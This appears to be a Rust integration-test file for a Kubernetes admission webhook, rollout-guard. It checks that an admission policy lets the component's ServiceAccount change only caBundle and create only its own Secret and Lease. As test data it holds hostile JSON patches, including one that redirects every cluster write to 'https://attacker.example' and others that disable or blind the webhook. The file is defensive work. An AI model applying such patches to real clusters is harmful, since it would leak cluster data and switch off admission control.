//! What rollout-guard's own ServiceAccount may write. RBAC lets it patch its two webhook configurations and create
//! Secrets and Leases in its namespace; the chart's ValidatingAdmissionPolicy narrows this to what the pods do.

use std::collections::BTreeSet;

use serde_json::{Value, json};

use crate::alone;
use crate::api::{self, list, text};
use crate::bed::{Bed, poll};
use crate::command::{Ran, Run};
use crate::guard::{Guard, NAME, NAMESPACE};
use crate::story::Story;
use crate::world::DEADLINE;

pub const STORIES: &[Story] = &[
    alone!(its_account_changes_only_the_ca_bundle),
    alone!(its_account_writes_no_other_secret_or_lease),
    alone!(without_the_policy_its_account_can_send_every_write_elsewhere),
];

fn its_account_changes_only_the_ca_bundle(bed: &Bed) {
    let guard = bed.guard();
    guard.ensure();
    until_enforced(guard);
    policy_has_no_type_error(guard);
    for kind in CONFIGURATIONS {
        let before = configuration(guard, kind);
        for (what, patch) in refused_patches(kind) {
            let refused = patch_as_account(guard, kind, &patch).failed();
            assert!(
                refused.stderr.contains(REFUSED),
                "{kind}, {what}: {refused}"
            );
        }
        assert_eq!(configuration(guard, kind), before, "{kind}");
        let bundle = json!([{"op": "add", "path": "/webhooks/0/clientConfig/caBundle", "value": "LS0tLS0="}]);
        patch_as_account(guard, kind, &bundle).succeeded();
        until_the_leader_writes_it_again(guard, kind, &before);
    }
    // The leader rotates: a new CA in the Secret, then in both configurations.
    let before = configuration(guard, CONFIGURATIONS[0]);
    guard
        .kubectl("patch secret rollout-guard-tls --type=json -p")
        .arg(r#"[{"op": "remove", "path": "/data"}]"#)
        .ok();
    poll(
        "the CA of a new Secret in both configurations",
        DEADLINE,
        &mut || {
            let all = CONFIGURATIONS.map(|kind| bundles(&configuration(guard, kind)));
            let all: BTreeSet<String> = all.into_iter().flatten().collect();
            let old = all
                .iter()
                .filter(|bundle| bundles(&before).contains(bundle));
            match (all.len(), old.count()) {
                (1, 0) => Ok(()),
                (bundles, old) => Err(format!("{bundles} bundles, {old} of them old")),
            }
        },
    );
}

fn its_account_writes_no_other_secret_or_lease(bed: &Bed) {
    let guard = bed.guard();
    guard.ensure();
    until_enforced(guard);
    let create = |object: &Value| {
        let create = as_account(guard, "create --dry-run=server -f -");
        create.input(object).run()
    };
    let secret = |name: &str, of_type: &str| {
        json!({
            "apiVersion": "v1", "kind": "Secret", "type": of_type,
            "metadata": {"name": name, "annotations": {"kubernetes.io/service-account.name": "default"}},
        })
    };
    create(&secret("other", "Opaque"))
        .failed()
        .says("no Secret or Lease but its own");
    guard
        .kubectl("scale deployment rollout-guard --replicas=0")
        .ok();
    poll("the last Pod to end", DEADLINE, &mut || {
        let pods = guard.kubectl("get pods -o name").ok().stdout;
        if pods.is_empty() { Ok(()) } else { Err(pods) }
    });
    guard.kubectl("delete secret rollout-guard-tls").ok();
    guard.kubectl("delete lease rollout-guard").ok();
    create(&secret(
        "rollout-guard-tls",
        "kubernetes.io/service-account-token",
    ))
    .failed()
    .says("no Secret of another type");
    create(&secret("rollout-guard-tls", "Opaque")).succeeded();
    let lease = |name: &str| json!({"apiVersion": "coordination.k8s.io/v1", "kind": "Lease", "metadata": {"name": name}});
    create(&lease("other"))
        .failed()
        .says("no Secret or Lease but its own");
    create(&lease(NAME)).succeeded();
    // The pods create both again.
    guard
        .kubectl("scale deployment rollout-guard --replicas=3")
        .ok();
    guard.until_ready(3);
    guard.until_trusted();
    guard.kubectl("get secret rollout-guard-tls").ok();
    guard.uninstall();
    // Helm 4 deletes no object that it did not create.
    let left = "delete secret,lease rollout-guard-tls rollout-guard --ignore-not-found";
    guard.kubectl(left).ok();
}

/// Why the policy exists.
fn without_the_policy_its_account_can_send_every_write_elsewhere(bed: &Bed) {
    let guard = bed.guard();
    guard.install(&["profile=guard", "admissionPolicy.enabled=false"]);
    let [kind, _] = CONFIGURATIONS;
    let (what, patch) = refused_patches(kind).swap_remove(0);
    let words = format!("patch {kind} {NAME} --type=json --dry-run=server -p");
    // The API server still enforces the policy for a moment after it is gone.
    poll(what, DEADLINE, &mut || {
        let patched = as_account(guard, &words).arg(patch.to_string()).run();
        if patched.code == 0 {
            Ok(())
        } else {
            Err(patched.to_string())
        }
    });
}

/// The API server enforces a policy about a second after it is stored.
fn until_enforced(guard: Guard<'_>) {
    poll("the policy", DEADLINE, &mut || {
        let words = format!("annotate {} {NAME} --dry-run=server a=b", CONFIGURATIONS[0]);
        let refused = as_account(guard, &words).run();
        if refused.stderr.contains(REFUSED) {
            Ok(())
        } else {
            Err(refused.to_string())
        }
    });
}

fn policy_has_no_type_error(guard: Guard<'_>) {
    let api = api::cluster_wide(&guard.bed.client, "ValidatingAdmissionPolicy");
    poll("the checked types of the policy", DEADLINE, &mut || {
        let found = guard.bed.block_on(api::find(api.clone(), NAME));
        let policy = found.expect("the API server answers").expect("the policy");
        if policy["status"]["observedGeneration"].is_null() {
            return Err("not checked yet".to_owned());
        }
        let warnings = &policy["status"]["typeChecking"]["expressionWarnings"];
        assert!(warnings.is_null(), "{warnings:#}");
        Ok(())
    });
}

/// Patches that would widen what the guard sees, blind it, or keep others from mending it.
fn refused_patches(kind: &str) -> Vec<(&'static str, Value)> {
    let everything = json!([{
        "apiGroups": ["*"], "apiVersions": ["*"], "resources": ["*/*"], "operations": ["*"], "scope": "*",
    }]);
    let owner = json!([{"apiVersion": "v1", "kind": "ConfigMap", "name": "x", "uid": "x"}]);
    let mut patches = vec![
        (
            "every write, to another server",
            json!([
                {"op": "replace", "path": "/webhooks/0/rules", "value": everything},
                {"op": "remove", "path": "/webhooks/0/clientConfig/service"},
                {"op": "add", "path": "/webhooks/0/clientConfig/url", "value": "https://attacker.example"},
            ]),
        ),
        (
            "every write",
            json!([{"op": "replace", "path": "/webhooks/1/rules", "value": everything}]),
        ),
        (
            "no writes",
            json!([{"op": "remove", "path": "/webhooks/0/rules"}]),
        ),
        (
            "another Service",
            json!([{"op": "replace", "path": "/webhooks/0/clientConfig/service/namespace", "value": "default"}]),
        ),
        (
            "another path",
            json!([{"op": "replace", "path": "/webhooks/0/clientConfig/service/path", "value": "/x"}]),
        ),
        (
            "another server",
            json!([
                {"op": "remove", "path": "/webhooks/0/clientConfig/service"},
                {"op": "add", "path": "/webhooks/0/clientConfig/url", "value": "https://attacker.example"},
            ]),
        ),
        (
            "fail closed",
            json!([{"op": "replace", "path": "/webhooks/0/failurePolicy", "value": "Fail"}]),
        ),
        (
            "wait long",
            json!([{"op": "replace", "path": "/webhooks/0/timeoutSeconds", "value": 30}]),
        ),
        (
            "every namespace",
            json!([{"op": "remove", "path": "/webhooks/0/namespaceSelector"}]),
        ),
        (
            "some objects",
            json!([{"op": "add", "path": "/webhooks/0/objectSelector", "value": {"matchLabels": {"a": "b"}}}]),
        ),
        (
            "the controller too",
            json!([{"op": "remove", "path": "/webhooks/0/matchConditions"}]),
        ),
        (
            "side effects",
            json!([{"op": "replace", "path": "/webhooks/0/sideEffects", "value": "NoneOnDryRun"}]),
        ),
        (
            "one webhook less",
            json!([{"op": "remove", "path": "/webhooks/1"}]),
        ),
        (
            "no webhooks",
            json!([{"op": "replace", "path": "/webhooks", "value": []}]),
        ),
        (
            "another order",
            json!([{"op": "move", "from": "/webhooks/1", "path": "/webhooks/0"}]),
        ),
        (
            "another name",
            json!([{"op": "replace", "path": "/webhooks/0/name", "value": "a.b.c"}]),
        ),
        (
            "an annotation for cert-manager",
            json!([
                {"op": "add", "path": "/metadata/annotations", "value": {"cert-manager.io/inject-ca-from": "default/x"}},
            ]),
        ),
        (
            "a label",
            json!([{"op": "add", "path": "/metadata/labels/a", "value": "b"}]),
        ),
        (
            "a finalizer",
            json!([{"op": "add", "path": "/metadata/finalizers", "value": ["example.com/x"]}]),
        ),
        (
            "an owner to be collected with",
            json!([{"op": "add", "path": "/metadata/ownerReferences", "value": owner}]),
        ),
        (
            "a new caBundle, and more",
            json!([
                {"op": "add", "path": "/webhooks/0/clientConfig/caBundle", "value": "LS0tLS0="},
                {"op": "replace", "path": "/webhooks/1/timeoutSeconds", "value": 1},
            ]),
        ),
    ];
    if kind == CONFIGURATIONS[0] {
        let never =
            json!([{"op": "replace", "path": "/webhooks/0/reinvocationPolicy", "value": "Never"}]);
        patches.push(("another reinvocation", never));
    }
    patches
}

fn patch_as_account(guard: Guard<'_>, kind: &str, patch: &Value) -> Ran {
    let patching = as_account(guard, &format!("patch {kind} {NAME} --type=json -p"));
    patching.arg(patch.to_string()).run()
}

/// `kubectl` with the rights of the ServiceAccount and no other.
fn as_account(guard: Guard<'_>, words: &str) -> Run {
    guard.kubectl(&format!(
        "--as=system:serviceaccount:{NAMESPACE}:{NAME} {words}"
    ))
}

fn until_the_leader_writes_it_again(guard: Guard<'_>, kind: &str, before: &Value) {
    poll("the leader to write caBundle", DEADLINE, &mut || {
        let now = configuration(guard, kind);
        if bundles(&now) == bundles(before) {
            Ok(())
        } else {
            Err(format!("{:?}", bundles(&now)))
        }
    });
}

fn bundles(configuration: &Value) -> Vec<String> {
    let webhooks = list(configuration, "/webhooks").iter();
    webhooks
        .map(|webhook| text(webhook, "/clientConfig/caBundle").to_owned())
        .collect()
}

/// Without the fields that the API server writes.
fn configuration(guard: Guard<'_>, kind: &str) -> Value {
    let api = api::cluster_wide(&guard.bed.client, kind);
    let found = guard.bed.block_on(api::find(api, NAME));
    let mut found = found
        .expect("the API server answers")
        .expect("the configuration");
    for field in ["managedFields", "resourceVersion", "generation"] {
        found["metadata"][field].take();
    }
    found
}

const CONFIGURATIONS: [&str; 2] = [
    "MutatingWebhookConfiguration",
    "ValidatingWebhookConfiguration",
];
const REFUSED: &str = "rollout-guard changes nothing of a webhook configuration but caBundle";
